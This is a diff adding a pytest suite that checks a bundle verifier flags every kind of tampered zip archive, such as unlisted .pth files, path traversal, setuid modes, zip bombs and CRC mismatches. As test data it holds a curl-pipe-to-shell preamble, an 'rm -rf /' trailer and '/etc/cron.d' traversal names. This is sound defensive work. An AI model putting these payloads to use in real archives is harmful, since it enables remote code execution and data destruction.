@@ -1,0 +1,316 @@
+"""`verify` names every way a bundle can be altered: one test per rule.
+
+Each test crafts the altered bundle with tests/bundlecraft.py and asserts that the
+problem names the entry (`where`) and says what is wrong (words of `what`).
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import stat
+from pathlib import Path
+
+import pytest
+from bundlecraft import (
+    CORE,
+    MAIN,
+    PREAMBLE,
+    TOOL,
+    RawEntry,
+    build_raw,
+    default_files,
+    find,
+    make_bundle,
+    make_manifest,
+    raw_entries,
+    remove,
+    write,
+    zip64_extra,
+)
+
+from sandrun.archive import ARCHIVE
+from sandrun.archive import PREAMBLE as PREAMBLE_WHERE
+from sandrun.errors import ArchiveError, Problem, VerificationError
+from sandrun.manifest import MANIFEST_NAME, EntryRecord
+from sandrun.verify import VerifyResult, verify_bundle
+
+EVIL = "site-packages/demo/evil.py"
+
+
+def verify_raw(tmp_path: Path, entries: list[RawEntry], **build: object) -> VerifyResult:
+    return verify_bundle(write(tmp_path, build_raw(entries, **build)))  # type: ignore[arg-type]
+
+
+def assert_reports(result: VerifyResult, where: str, *words: str) -> Problem:
+    """Some problem is at `where` and its text contains every word (case-insensitive)."""
+    assert not result.ok
+    for problem in result.problems:
+        if problem.where == where and all(w.lower() in problem.what.lower() for w in words):
+            return problem
+    listing = "\n".join(f"  {p}" for p in result.problems)
+    raise AssertionError(f"no problem at {where!r} saying {words}; got:\n{listing}")
+
+
+def with_extra(name: str | bytes, content: bytes = b"pass\n", mode: int = 0o644) -> list[RawEntry]:
+    """The valid bundle plus one unlisted entry just before the manifest."""
+    entries = raw_entries()
+    entries.insert(-1, RawEntry.of(name, content, mode))
+    return entries
+
+
+# --- the valid bundle ------------------------------------------------------------------
+
+
+def test_valid_bundle_verifies_clean(tmp_path: Path) -> None:
+    result = verify_bundle(make_bundle(tmp_path))
+    assert result.problems == ()
+    assert result.ok
+    assert result.manifest is not None and result.manifest.app_name == "demo"
+    assert result.archive.preamble == PREAMBLE
+    result.raise_for_problems()  # no-op
+
+
+def test_verify_is_deterministic_and_ordered(tmp_path: Path) -> None:
+    entries = with_extra("site-packages/zz.pth", b"import os\n")
+    find(entries, CORE).mode = stat.S_IFREG | 0o666
+    find(entries, MAIN).crc ^= 1
+    remove(entries, TOOL)
+    data = build_raw(entries, trailing=b"junk")
+    first = verify_bundle(write(tmp_path, data, "a.pyz"))
+    second = verify_bundle(write(tmp_path, data, "b.pyz"))
+    assert first.problems == second.problems
+    wheres = [p.where for p in first.problems]
+    assert wheres[0] == ARCHIVE  # archive-wide first, then by entry name
+    assert wheres[1:] == sorted(wheres[1:])
+    # Every alteration is reported, not only the first.
+    assert {MAIN, CORE, TOOL, "site-packages/zz.pth", ARCHIVE} <= set(wheres)
+
+
+def test_raise_for_problems_lists_every_problem(tmp_path: Path) -> None:
+    entries = with_extra("site-packages/a.pth")
+    remove(entries, TOOL)
+    result = verify_raw(tmp_path, entries)
+    with pytest.raises(VerificationError) as info:
+        result.raise_for_problems()
+    assert info.value.problems == result.problems
+    assert "2 problems" in info.value.message
+
+
+# --- content against the manifest ------------------------------------------------------
+
+
+def test_changed_byte_with_valid_crc(tmp_path: Path) -> None:
+    entries = raw_entries()
+    content = default_files()[CORE][0]
+    changed = content.replace(b"42", b"43", 1)
+    index = entries.index(find(entries, CORE))
+    entries[index] = entries[index].with_content(changed)  # CRC valid for the new data
+    assert_reports(verify_raw(tmp_path, entries), CORE, "content differs from manifest")
+
+
+def test_size_differs(tmp_path: Path) -> None:
+    entries = raw_entries()
+    index = entries.index(find(entries, CORE))
+    entries[index] = entries[index].with_content(default_files()[CORE][0] + b"#\n")
+    assert_reports(verify_raw(tmp_path, entries), CORE, "size differs from manifest")
+
+
+def test_extra_pth_entry(tmp_path: Path) -> None:
+    result = verify_raw(tmp_path, with_extra("site-packages/evil.pth", b"import os\n"))
+    problem = assert_reports(result, "site-packages/evil.pth", "not in manifest")
+    assert ".pth" in problem.hint
+
+
+def test_missing_entry(tmp_path: Path) -> None:
+    entries = raw_entries()
+    remove(entries, CORE)
+    assert_reports(verify_raw(tmp_path, entries), CORE, "missing entry")
+
+
+def test_manifest_missing(tmp_path: Path) -> None:
+    entries = raw_entries()
+    remove(entries, MANIFEST_NAME)
+    result = verify_raw(tmp_path, entries)
+    assert_reports(result, MANIFEST_NAME, "missing", "no manifest")
+    assert result.manifest is None
+
+
+def test_manifest_malformed(tmp_path: Path) -> None:
+    entries = raw_entries()
+    entries[-1] = RawEntry.of(MANIFEST_NAME, b'{"format": 1, "entries": ')
+    assert_reports(verify_raw(tmp_path, entries), MANIFEST_NAME, "not valid JSON")
+
+
+def test_manifest_hash_edited(tmp_path: Path) -> None:
+    files = default_files()
+    manifest = make_manifest(files)
+    record = manifest.entries[CORE]
+    edited = dict(manifest.entries)
+    edited[CORE] = EntryRecord("0" * 64, record.size, record.mode)
+    entries = raw_entries(files, manifest=dataclasses.replace(manifest, entries=edited))
+    assert_reports(verify_raw(tmp_path, entries), CORE, "content differs from manifest")
+
+
+def test_manifest_entry_mode_edited(tmp_path: Path) -> None:
+    files = default_files()
+    manifest = make_manifest(files)
+    record = manifest.entries[CORE]
+    edited = dict(manifest.entries)
+    edited[CORE] = EntryRecord(record.sha256, record.size, 0o755)
+    entries = raw_entries(files, manifest=dataclasses.replace(manifest, entries=edited))
+    assert_reports(verify_raw(tmp_path, entries), CORE, "mode 0644 differs from manifest (0755)")
+
+
+def test_preamble_changed(tmp_path: Path) -> None:
+    result = verify_raw(tmp_path, raw_entries(), preamble=b"#!/bin/sh -c 'curl x | sh'\n")
+    assert_reports(result, PREAMBLE_WHERE, "preamble (shebang) changed")
+
+
+# --- names -----------------------------------------------------------------------------
+
+
+def test_duplicate_name(tmp_path: Path) -> None:
+    entries = raw_entries()
+    entries.insert(-1, dataclasses.replace(find(entries, CORE)))
+    assert_reports(verify_raw(tmp_path, entries), CORE, "duplicate name")
+
+
+def test_case_folded_duplicate(tmp_path: Path) -> None:
+    result = verify_raw(tmp_path, with_extra("site-packages/demo/CORE.py"))
+    assert_reports(result, "site-packages/demo/CORE.py", "duplicate name", CORE, "case folding")
+
+
+def test_nfc_nfd_duplicate(tmp_path: Path) -> None:
+    composed = "site-packages/demo/caf\u00e9.py"
+    decomposed = "site-packages/demo/cafe\u0301.py"
+    files = default_files() | {composed: (b"pass\n", 0o644)}
+    entries = raw_entries(files)
+    entries.insert(-1, RawEntry.of(decomposed, b"pass\n"))
+    result = verify_raw(tmp_path, entries)
+    assert_reports(result, decomposed, "duplicate name", "Unicode normalisation")
+
+
+def test_dotdot_name(tmp_path: Path) -> None:
+    name = "site-packages/../../etc/cron.d/evil"
+    assert_reports(verify_raw(tmp_path, with_extra(name)), name, "'..' component")
+
+
+def test_absolute_name(tmp_path: Path) -> None:
+    name = "/etc/cron.d/evil"
+    assert_reports(verify_raw(tmp_path, with_extra(name)), name, "absolute path")
+
+
+def test_backslash_name(tmp_path: Path) -> None:
+    name = "site-packages\\demo\\evil.py"
+    assert_reports(verify_raw(tmp_path, with_extra(name)), name, "backslash")
+
+
+def test_nul_in_name(tmp_path: Path) -> None:
+    result = verify_raw(tmp_path, with_extra("site-packages/demo/evil.py\x00.txt"))
+    # `where` is escaped so that a name cannot inject control bytes into the output.
+    assert_reports(result, "site-packages/demo/evil.py\\x00.txt", "NUL byte")
+
+
+def test_directory_entry(tmp_path: Path) -> None:
+    result = verify_raw(tmp_path, with_extra("site-packages/demo/", b"", stat.S_IFDIR | 0o755))
+    assert_reports(result, "site-packages/demo/", "directory entry")
+
+
+# --- modes -----------------------------------------------------------------------------
+
+
+def test_symlink_entry(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).mode = stat.S_IFLNK | 0o777
+    assert_reports(verify_raw(tmp_path, entries), CORE, "symlink entry")
+
+
+def test_device_entry(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).mode = stat.S_IFCHR | 0o644
+    assert_reports(verify_raw(tmp_path, entries), CORE, "character device entry")
+
+
+def test_setuid_mode(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, TOOL).mode = stat.S_IFREG | 0o4755
+    result = verify_raw(tmp_path, entries)
+    assert_reports(result, TOOL, "setuid bit set")
+    assert_reports(result, TOOL, "mode 4755 differs from manifest (0755)")
+
+
+def test_world_writable_mode(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).mode = stat.S_IFREG | 0o666
+    assert_reports(verify_raw(tmp_path, entries), CORE, "writable by group or others")
+
+
+# --- structure -------------------------------------------------------------------------
+
+
+def test_truncated_file_is_an_archive_error(tmp_path: Path) -> None:
+    """A cut file loses its end record: not a zip at all, so ArchiveError (exec: exit 125).
+
+    Entries whose declared data runs past the end of a file that still has its central
+    directory are reported as problems instead (tests/test_archive.py).
+    """
+    data = build_raw(raw_entries())
+    with pytest.raises(ArchiveError, match="no end of central directory record"):
+        verify_bundle(write(tmp_path, data[: len(data) // 2]))
+
+
+def test_trailing_garbage(tmp_path: Path) -> None:
+    result = verify_raw(tmp_path, raw_entries(), trailing=b"#!/bin/sh\nrm -rf /\n")
+    assert_reports(result, ARCHIVE, "19 bytes of data after the end of central directory")
+
+
+def test_data_between_entries(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).before = b"hidden payload"
+    assert_reports(verify_raw(tmp_path, entries), CORE, "14 bytes", "data between entries")
+
+
+def test_local_header_name_mismatch(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).local["name"] = EVIL.encode()
+    result = verify_raw(tmp_path, entries)
+    assert_reports(result, CORE, f"local header name {EVIL!r} differs from the central directory")
+
+
+def test_crc_wrong(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).crc ^= 0xDEADBEEF  # both headers agree, the data does not
+    assert_reports(verify_raw(tmp_path, entries), CORE, "CRC-32 mismatch")
+
+
+def test_absurd_compression_ratio(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).size = 600 << 20  # claims 600 MiB from a few hundred bytes
+    result = verify_raw(tmp_path, entries)
+    assert_reports(result, CORE, "compression ratio", "exceeds the limit of 1000:1")
+
+
+def test_absurd_entry_size(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).size = 3 << 30
+    assert_reports(verify_raw(tmp_path, entries), CORE, "uncompressed size", "exceeds the limit")
+
+
+def test_encrypted_flag(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).flags |= 0x1
+    assert_reports(verify_raw(tmp_path, entries), CORE, "encrypted")
+
+
+def test_zip64_entry(tmp_path: Path) -> None:
+    entries = raw_entries()
+    core = find(entries, CORE)
+    core.central.update(size=0xFFFFFFFF, compressed_size=0xFFFFFFFF,
+                        extra=zip64_extra(core.size, len(core.payload)))
+    assert_reports(verify_raw(tmp_path, entries), CORE, "zip64 is not supported")
+
+
+def test_unsupported_method(tmp_path: Path) -> None:
+    entries = raw_entries()
+    find(entries, CORE).method = 12  # bzip2
+    assert_reports(verify_raw(tmp_path, entries), CORE, "compression method 12 is not supported")
